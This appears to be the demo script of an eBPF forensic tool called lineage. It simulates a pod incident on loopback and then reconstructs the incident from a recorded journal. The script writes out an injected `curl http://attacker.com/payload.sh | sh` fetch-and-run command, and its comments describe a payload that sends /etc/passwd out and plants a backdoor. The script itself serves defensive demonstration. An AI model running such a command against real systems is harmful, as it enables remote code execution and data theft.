#!/bin/bash
# lineage's built-in demo: an incident in a Kubernetes pod, replayed for real.
#
# A fake pod (real cgroups and namespaces, no Kubernetes) runs "my-app". A
# command injection makes it run `curl http://attacker.com/payload.sh | sh`;
# the payload reads /etc/passwd, sends it out, and drops a "backdoor". Two
# `lineage record` runs watch: one records the whole node, one --kube-only.
# Then the pod is "restarted", so nothing of it is left on the node, and
# `lineage reconstruct` rebuilds what happened from the journal alone.
#
# attacker.com is a small HTTP server on 127.0.0.1, and the pod finds it by
# DNS, from a small name server of the demo's on 127.0.5.3 (or, if that
# address's port 53 is taken, from the pod's /etc/hosts): no traffic leaves
# the loopback interface. Nothing is left behind: processes, cgroups and
# mounts go away on exit, also when the demo fails or is interrupted.
#
# Usage: scripts/demo.sh [--lineage PATH] [--workdir DIR] [--keep]
#   --lineage PATH  the lineage binary (default: build/lineage in the repo)
#   --workdir DIR   work directory (must be new or empty; default: mktemp -d)
#   --keep          keep the work directory: journals, incident.json, logs
# Needs root, a kernel with eBPF and BTF, cgroup v2, python3, curl and wget.
set -eu

REPO=$(cd "$(dirname "$0")/.." && pwd)
PAYLOAD_DIR=$REPO/scripts/demo-payload

POD_NAME=my-app-6d4f9-xk2p1
POD_NAMESPACE=production
CONTAINER_NAME=my-app
CONTAINER_IMAGE=registry.example.test/shop/my-app:1.8.0
# The pod's UID and container ID are new on every run, so that nothing of an
# earlier run (a stale pod after a SIGKILL) or of a real pod can be taken for
# this one's. Their fixed beginnings mark them: the UID's makes a stale pod
# recognisable as the demo's, and the container ID's is the short ID the
# README shows.
POD_UID_PREFIX=4c6a1b2e-8d3f-4e5a-9b7c-
CONTAINER_ID_PREFIX=d78c990c760b

LINEAGE=$REPO/build/lineage
WORK=
KEEP=0

usage() { echo "usage: $0 [--lineage PATH] [--workdir DIR] [--keep]"; }
while [ $# -gt 0 ]; do
    case $1 in
    --lineage | --workdir)
        [ $# -ge 2 ] || { usage >&2; exit 2; }
        if [ "$1" = --lineage ]; then LINEAGE=$2; else WORK=$2; fi
        shift 2
        ;;
    --keep) KEEP=1; shift ;;
    -h | --help) usage; exit 0 ;;
    *) usage >&2; exit 2 ;;
    esac
done

say() { echo "demo: $*" >&2; }
die() { echo "demo: error: $*" >&2; exit 1; }

# ---------------------------------------------------------------- preflight

[ "$(id -u)" = 0 ] || die "run me as root: lineage record loads eBPF programs, and the fake pod needs cgroups and namespaces"
for cmd in curl wget unshare mount flock realpath od; do
    command -v "$cmd" >/dev/null || die "$cmd is missing (on Debian: apt-get install curl wget util-linux mount coreutils)"
done
PYTHON=/usr/bin/python3
[ -x "$PYTHON" ] || die "$PYTHON is missing (apt-get install python3)"
if [ ! -f "$LINEAGE" ] || [ ! -x "$LINEAGE" ]; then
    die "no lineage binary at $LINEAGE (build it first, or pass --lineage PATH)"
fi
LINEAGE=$(realpath "$LINEAGE")

# The cgroup2 mount: /sys/fs/cgroup, or /sys/fs/cgroup/unified on a hybrid host.
CG2=$(awk '{ for (i = 7; i < NF; i++) if ($i == "-") { if ($(i + 1) == "cgroup2") { print $5; exit } break } }' /proc/self/mountinfo)
[ -n "$CG2" ] || die "no cgroup2 filesystem is mounted"

# One demo at a time on this machine, whichever copy of the script runs it:
# a stale pod of the demo is found by its UID's prefix and removed. The lock
# is on the cgroup2 mount's directory, so it leaves no file behind; it goes
# when our last process does.
exec 9<"$CG2"
flock -n 9 || die "another demo is running (it holds a lock on $CG2)"

rand_hex() { od -An -N"$(($1 / 2))" -tx1 /dev/urandom | tr -d ' \n'; }
POD_UID=$POD_UID_PREFIX$(rand_hex 12)
CONTAINER_ID=$CONTAINER_ID_PREFIX$(rand_hex 52)

# The pod's cgroups, outermost first: what lineage parses the pod UID and the
# container ID from. On a Kubernetes node the kubelet owns its kubepods tree
# and removes pods it does not know of, so the demo takes the layout of the
# other cgroup driver, which no kubelet there manages (--kube-only covers
# both). The kubelet always makes its besteffort QoS cgroup; the demo never.
if [ -d "$CG2/kubepods.slice/kubepods-besteffort.slice" ] && [ -d "$CG2/kubepods/besteffort" ]; then
    die "$CG2 has the kubelet's cgroups of both drivers (kubepods.slice and kubepods): no layout is free for the demo"
elif [ -d "$CG2/kubepods.slice/kubepods-besteffort.slice" ]; then
    # A kubelet with the systemd driver: the cgroupfs driver's layout.
    CG_KUBEPODS=$CG2/kubepods
    CG_QOS=$CG_KUBEPODS/burstable
    CG_POD=$CG_QOS/pod$POD_UID
    CG_CONTAINER=$CG_POD/$CONTAINER_ID
    CGROUPS_PATH=${CG_CONTAINER#"$CG2"}
    STALE_PODS=$CG_QOS/pod$POD_UID_PREFIX*
else
    # The systemd driver's layout, which most nodes use.
    CG_KUBEPODS=$CG2/kubepods.slice
    CG_QOS=$CG_KUBEPODS/kubepods-burstable.slice
    CG_POD=$CG_QOS/kubepods-burstable-pod$(echo "$POD_UID" | tr - _).slice
    CG_CONTAINER=$CG_POD/cri-containerd-$CONTAINER_ID.scope
    # containerd's form of it for the systemd driver: slice:prefix:name.
    CGROUPS_PATH=$(basename "$CG_POD"):cri-containerd:$CONTAINER_ID
    STALE_PODS=$CG_QOS/kubepods-burstable-pod$(echo "$POD_UID_PREFIX" | tr - _)*.slice
fi
# For the tests, which look for what this run made by these names.
say "pod uid $POD_UID container $CONTAINER_ID cgroup ${CG_CONTAINER#"$CG2"}"

# ---------------------------------------------------------------- cleanup

LISTENER_PID=
DNS_PID=
RECORDER_PIDS=
UNSHARE_PID=
POD_INIT=
WORK_OWNED=0
CGROUPS_OWNED=0

# Is PID alive and not yet a zombie? (A zombie child still passes kill -0.)
running() {
    local state
    state=$(sed 's/.*) //' "/proc/$1/stat" 2>/dev/null | cut -c1) || return 1
    [ -n "$state" ] && [ "$state" != Z ]
}

# Stop one of our child processes: SIGNAL, up to 5 s of grace, then SIGKILL.
# Reaps it and returns its exit status.
stop_child() {
    local pid=$1 sig=$2
    kill "-$sig" "$pid" 2>/dev/null || true
    for _ in $(seq 50); do
        running "$pid" || break
        sleep 0.1
    done
    if running "$pid"; then
        say "PID $pid ignored SIG$sig for 5 s: killing it"
        kill -KILL "$pid" 2>/dev/null || true
    fi
    wait "$pid"
}

# Empty one cgroup of the demo and remove it. Any process still in it is
# the demo's: it is killed, and if the kernel has not let go of it after a
# moment, moved to the root cgroup, because rmdir needs an empty cgroup.
remove_cgroup() {
    local dir=$1 pid
    [ -d "$dir" ] || return 0
    while read -r pid; do kill -KILL "$pid" 2>/dev/null || true; done <"$dir/cgroup.procs"
    for _ in $(seq 30); do
        grep -qx 'populated 0' "$dir/cgroup.events" && break
        sleep 0.1
    done
    while read -r pid; do echo "$pid" >"$CG2/cgroup.procs" 2>/dev/null || true; done <"$dir/cgroup.procs"
    rmdir "$dir" || say "could not remove cgroup $dir"
}

# Leaf first: a cgroup with children cannot be removed. The pod's two
# levels are named after this run's pod: whatever is in them is the demo's.
# The two above hold no process of the demo; they go when empty (on a node,
# they are of the layout no kubelet there uses).
remove_pod_cgroups() {
    remove_cgroup "$CG_CONTAINER"
    remove_cgroup "$CG_POD"
}
# Pods of an earlier demo that was killed before it could clean up, by the
# demo's UID prefix (the lock says no other demo is running).
remove_stale_pods() {
    local pod dir
    for pod in $STALE_PODS; do
        [ -d "$pod" ] || continue
        say "removing a stale pod of an earlier demo: $pod"
        for dir in "$pod"/*/; do
            if [ -d "$dir" ]; then remove_cgroup "${dir%/}"; fi
        done
        remove_cgroup "$pod"
    done
}
remove_all_cgroups() {
    local dir
    remove_pod_cgroups
    for dir in "$CG_QOS" "$CG_KUBEPODS"; do
        if [ -d "$dir" ]; then rmdir "$dir" || say "left cgroup $dir: it is in use"; fi
    done
}

# Runs on every exit. Each step undoes only what is still there, so it is
# safe to run at any point of the demo, and twice.
cleanup() {
    local rc=$? pid
    set +e
    trap '' INT TERM # finish cleaning even if interrupted again
    trap - EXIT
    # Killing the PID namespace's init kills every process of the pod. It is
    # unshare's only child, even before it is known as POD_INIT. unshare
    # then reaps it and exits (it holds SIGTERM back while it waits).
    if [ -n "$UNSHARE_PID" ]; then
        for pid in $POD_INIT $(cat "/proc/$UNSHARE_PID/task/$UNSHARE_PID/children" 2>/dev/null); do
            kill -KILL "$pid" 2>/dev/null
        done
        stop_child "$UNSHARE_PID" TERM 2>/dev/null
    fi
    POD_INIT='' UNSHARE_PID=''
    # SIGINT lets a recorder finish its journal.
    for pid in $RECORDER_PIDS; do stop_child "$pid" INT 2>/dev/null; done
    RECORDER_PIDS=
    [ -n "$LISTENER_PID" ] && stop_child "$LISTENER_PID" TERM 2>/dev/null
    LISTENER_PID=
    [ -n "$DNS_PID" ] && stop_child "$DNS_PID" TERM 2>/dev/null
    DNS_PID=
    # The mounts lived in the pod's mount namespace: they went with it.
    [ "$CGROUPS_OWNED" = 1 ] && remove_all_cgroups
    if [ "$WORK_OWNED" = 1 ] && [ "$KEEP" = 0 ]; then
        rm -rf -- "$WORK"
        WORK_OWNED=0
    fi
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# ---------------------------------------------------------------- 1. work dir

if [ -n "$WORK" ]; then
    mkdir -p -- "$WORK"
    [ -z "$(ls -A -- "$WORK")" ] || die "--workdir $WORK is not empty"
    WORK=$(realpath -- "$WORK")
else
    WORK=$(mktemp -d /tmp/lineage-demo.XXXXXX)
fi
WORK_OWNED=1
say "work directory $WORK"

# Waits up to SECONDS for FILE to contain a line matching REGEX while PID
# runs. Fails, showing FILE, if PID dies or time runs out.
wait_for_line() {
    local file=$1 regex=$2 pid=$3 seconds=$4 what=$5
    for _ in $(seq $((seconds * 10))); do
        grep -qE -- "$regex" "$file" 2>/dev/null && return 0
        if ! running "$pid"; then
            # It may have written the line just before it exited.
            grep -qE -- "$regex" "$file" 2>/dev/null && return 0
            sed 's/^/    /' "$file" >&2 2>/dev/null
            die "$what exited before it was ready (output above, from $file)"
        fi
        sleep 0.1
    done
    sed 's/^/    /' "$file" >&2 2>/dev/null
    die "$what was not ready after $seconds s (output above, from $file)"
}

# ---------------------------------------------------------------- 2. the pod's cgroups and kubelet files

# A stale pod from an interrupted run (SIGKILL skips cleanup) goes first.
CGROUPS_OWNED=1
remove_stale_pods
mkdir -p "$CG_QOS"
mkdir "$CG_POD" "$CG_CONTAINER"

# The kubelet's log directory is where lineage learns the pod's name and
# namespace at record time; containerd's task directory of the container,
# with the CRI annotations of its config.json, the container's name and
# image (read when the recorder first sees a process in its cgroup).
mkdir -p "$WORK/kube/var/log/pods/${POD_NAMESPACE}_${POD_NAME}_${POD_UID}/$CONTAINER_NAME"
TASK_DIR=$WORK/kube/run/containerd/io.containerd.runtime.v2.task/k8s.io/$CONTAINER_ID
mkdir -p "$TASK_DIR"
cat >"$TASK_DIR/config.json" <<EOF
{
  "ociVersion": "1.0.2-dev",
  "process": {"args": ["/usr/local/bin/my-app", "/usr/local/lib/my-app/app.sh"], "cwd": "/"},
  "hostname": "$POD_NAME",
  "annotations": {
    "io.kubernetes.cri.container-type": "container",
    "io.kubernetes.cri.container-name": "$CONTAINER_NAME",
    "io.kubernetes.cri.image-name": "$CONTAINER_IMAGE",
    "io.kubernetes.cri.sandbox-name": "$POD_NAME",
    "io.kubernetes.cri.sandbox-namespace": "$POD_NAMESPACE",
    "io.kubernetes.cri.sandbox-uid": "$POD_UID"
  },
  "linux": {"cgroupsPath": "$CGROUPS_PATH"}
}
EOF

# The pod's files, bind-mounted inside it by pod-init.sh (its hosts and
# resolv.conf come with its name server, below).
POD_DIR=$WORK/pod
mkdir -p "$POD_DIR/usr-local/bin" "$POD_DIR/usr-local/lib/my-app"
cp "$PAYLOAD_DIR/pod-init.sh" "$POD_DIR/pod-init.sh"
cp -L /bin/sh "$POD_DIR/usr-local/bin/my-app"
cp "$PAYLOAD_DIR/my-app.sh" "$POD_DIR/usr-local/lib/my-app/app.sh"
mkfifo "$POD_DIR/usr-local/lib/my-app/requests"
# Host names as a container's glibc looks them up: /etc/hosts, then DNS (a
# node's may ask systemd-resolved or others first, which would not know
# attacker.com, or would ask the node's name servers).
if [ -f /etc/nsswitch.conf ]; then
    { grep -v '^[[:space:]]*hosts:' /etc/nsswitch.conf; printf 'hosts: files dns\n'; } >"$POD_DIR/nsswitch.conf"
fi

# ---------------------------------------------------------------- 3. attacker.com and the pod's name server

"$PYTHON" -I "$PAYLOAD_DIR/attacker.py" "$WORK" "$PAYLOAD_DIR/payload.sh" </dev/null >"$WORK/attacker.log" 2>&1 &
LISTENER_PID=$!
echo "$LISTENER_PID" >"$WORK/attacker.pid"
wait_for_line "$WORK/attacker.log" '^attacker.com: listening' "$LISTENER_PID" 10 "the attacker.com listener"
PORT=$(cat "$WORK/attacker.port")
ATTACKER_ADDR=$(sed -n 's/^attacker\.com: listening on \([0-9.]*\):[0-9]*$/\1/p' "$WORK/attacker.log")
[ -n "$ATTACKER_ADDR" ] || die "the attacker.com listener did not say its address (see $WORK/attacker.log)"
if [ "$PORT" = 80 ]; then ATTACKER=http://attacker.com; else ATTACKER=http://attacker.com:$PORT; fi
say "attacker.com is $ATTACKER_ADDR:$PORT"

# The pod finds attacker.com by DNS, as a real pod would, so that the tree
# shows its lookups: its resolv.conf names a name server of the demo's, on
# an address of lo that nothing else uses (systemd-resolved has 127.0.0.53,
# and a node may run a resolver on 127.0.0.1). It knows attacker.com only
# and asks no one else. Where it cannot listen, the pod's /etc/hosts names
# attacker.com instead, and the tree has no DNS lookups.
DNS_SERVER=127.0.5.3
USE_DNS=0
if [ ! -e /etc/resolv.conf ]; then
    DNS_WHY="there is no /etc/resolv.conf to put the pod's in place of"
else
    "$PYTHON" -I "$PAYLOAD_DIR/dns.py" "$WORK" "$DNS_SERVER" attacker.com "$ATTACKER_ADDR" </dev/null >"$WORK/dns.log" 2>&1 &
    DNS_PID=$!
    wait_for_line "$WORK/dns.log" '^dns: (listening|cannot listen)' "$DNS_PID" 10 "the pod's name server"
    if grep -q '^dns: listening' "$WORK/dns.log"; then
        USE_DNS=1
    else
        DNS_WHY=$(sed -n 's/^dns: //p' "$WORK/dns.log" | head -n 1)
        wait "$DNS_PID" || true
        DNS_PID=
    fi
fi
if [ "$USE_DNS" = 1 ]; then
    printf '127.0.0.1\tlocalhost\n127.0.0.1\t%s\n' "$POD_NAME" >"$POD_DIR/hosts"
    printf 'nameserver %s\noptions attempts:1 timeout:1\n' "$DNS_SERVER" >"$POD_DIR/resolv.conf"
    say "attacker.com resolves by DNS: the pod's name server is $DNS_SERVER:53"
else
    printf '127.0.0.1\tlocalhost\n%s\tattacker.com\n127.0.0.1\t%s\n' "$ATTACKER_ADDR" "$POD_NAME" >"$POD_DIR/hosts"
    printf 'nameserver 127.0.0.1\n' >"$POD_DIR/resolv.conf"
    say "no name server for the pod ($DNS_WHY): attacker.com resolves from the pod's /etc/hosts instead, and the tree shows no DNS lookups"
fi

# ---------------------------------------------------------------- 4. recorders

# Both start before the pod, so they see it from its first exec. The
# kubepods cgroup exists already, which --kube-only needs.
"$LINEAGE" record --journal "$WORK/journal.db" --kube-root "$WORK/kube" </dev/null >"$WORK/record.log" 2>&1 &
RECORD_ALL=$!
RECORDER_PIDS="$RECORD_ALL"
"$LINEAGE" record --kube-only --journal "$WORK/kube-only.db" --kube-root "$WORK/kube" </dev/null >"$WORK/record-kube-only.log" 2>&1 &
RECORD_KUBE=$!
RECORDER_PIDS="$RECORDER_PIDS $RECORD_KUBE"
wait_for_line "$WORK/record.log" '^lineage: recording' "$RECORD_ALL" 20 "lineage record"
wait_for_line "$WORK/record-kube-only.log" '^lineage: recording' "$RECORD_KUBE" 20 "lineage record --kube-only"
say "recording: the whole node to journal.db, pods only to kube-only.db"

# ---------------------------------------------------------------- 5. the pod

# New UTS, PID and mount namespaces; pod-init.sh becomes PID 1 in them, sets
# them up, joins the container cgroup and execs my-app. env -i: the pod gets
# a container's clean environment (no proxy settings, no host variables).
# The subshell execs env, which execs unshare: $! is unshare's PID.
(
    cd "$POD_DIR"
    exec env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/ LANG=C.UTF-8 \
        POD_HOSTNAME="$POD_NAME" POD_CGROUP_PROCS="$CG_CONTAINER/cgroup.procs" \
        unshare --uts --pid --fork --mount --propagation private sh pod-init.sh
) </dev/null >"$WORK/pod.log" 2>&1 &
UNSHARE_PID=$!
wait_for_line "$WORK/pod.log" '^my-app: ready' "$UNSHARE_PID" 10 "the pod"
# my-app is the container's only process: the PID namespace's init.
POD_INIT=$(cat "$CG_CONTAINER/cgroup.procs")
case $POD_INIT in
'' | *[!0-9]*) die "expected my-app alone in $CG_CONTAINER, found: $POD_INIT" ;;
esac
say "pod $POD_NAMESPACE/$POD_NAME is up: my-app is PID $POD_INIT on the host, 1 in the pod"

# The attack: one request whose text my-app runs with sh -c. The FIFO is
# opened read-write so the write can never block.
REQUEST="curl $ATTACKER/payload.sh | sh"
say "sending my-app the injected request: $REQUEST"
printf '%s\n' "$REQUEST" 1<>"$POD_DIR/usr-local/lib/my-app/requests"
wait_for_line "$WORK/pod.log" '^my-app: request handled' "$UNSHARE_PID" 20 "the payload"
grep -qx 'my-app: request handled (exit 0)' "$WORK/pod.log" || {
    sed 's/^/    /' "$WORK/pod.log" >&2
    die "the payload failed (pod output above)"
}

# ---------------------------------------------------------------- 6. the pod restarts

# As after a restart, nothing of the pod is left to inspect: its processes
# (killing the PID namespace's init kills them all), its namespaces (they
# die with their last process, mounts included) and its cgroups.
say "restarting the pod: its processes, namespaces and cgroups go away"
kill -KILL "$POD_INIT"
wait "$UNSHARE_PID" || true # unshare dies the way its child did
POD_INIT='' UNSHARE_PID=''
remove_pod_cgroups

# A moment for the last exit events to reach the ring, then stop both.
sleep 0.5
status_all=0 status_kube=0
stop_child "$RECORD_ALL" INT || status_all=$?
stop_child "$RECORD_KUBE" INT || status_kube=$?
RECORDER_PIDS=
if [ "$status_all" != 0 ] || [ "$status_kube" != 0 ]; then
    tail -n +1 "$WORK/record.log" "$WORK/record-kube-only.log" >&2
    die "lineage record exited with status $status_all (whole node) and $status_kube (--kube-only); logs above"
fi
stop_child "$LISTENER_PID" TERM || true
LISTENER_PID=
if [ -n "$DNS_PID" ]; then stop_child "$DNS_PID" TERM || true; fi
DNS_PID=

# ---------------------------------------------------------------- 7. what the journal says

"$LINEAGE" reconstruct --journal "$WORK/journal.db" --pod "$POD_NAME" --format json >"$WORK/incident.json" \
    || die "lineage reconstruct --format json failed"
# Below each process, what it did on the network.
if [ "$USE_DNS" = 1 ]; then
    NETWORK='"→ dns" lines are the names it looked up and the answers it got,
"→ connect" lines its TCP connections, named by the lookup that gave the
address.'
else
    NETWORK='"→ connect" lines are its TCP connections (attacker.com came from the pod'"'"'s
/etc/hosts this time, so there are no "→ dns" lines).'
fi
cat <<EOF

The pod $POD_NAMESPACE/$POD_NAME is gone: its processes, namespaces and cgroups
no longer exist. This is what the journal alone still knows, from

    lineage reconstruct --journal $WORK/journal.db --pod $POD_NAME

The header names the pod, its container and the container's image, as the
kubelet and the runtime wrote them on the node. Each line is one process:
its command line ("a → b": it ran a, then exec'd b), its PID on the host and
in the pod's PID namespace, when it started, and how it ended. Below it,
$NETWORK
The tree starts at the pod's first process, my-app (its first image is the
demo's stand-in for runc init); its parent, unshare, is outside the pod. Its
liveness probe ran 12 times: "×12" lines fold processes of one shape into
one line.

EOF
"$LINEAGE" reconstruct --journal "$WORK/journal.db" --pod "$POD_NAME" || die "lineage reconstruct failed"
echo
if [ "$KEEP" = 1 ]; then
    cat <<EOF
Kept in $WORK:
    journal.db      the whole node's journal
    kube-only.db    the same run, recorded with --kube-only: the pod only
    incident.json   the tree above, as JSON (--format json)
    *.log           the recorders', the listener's, the name server's and
                    the pod's output
EOF
fi
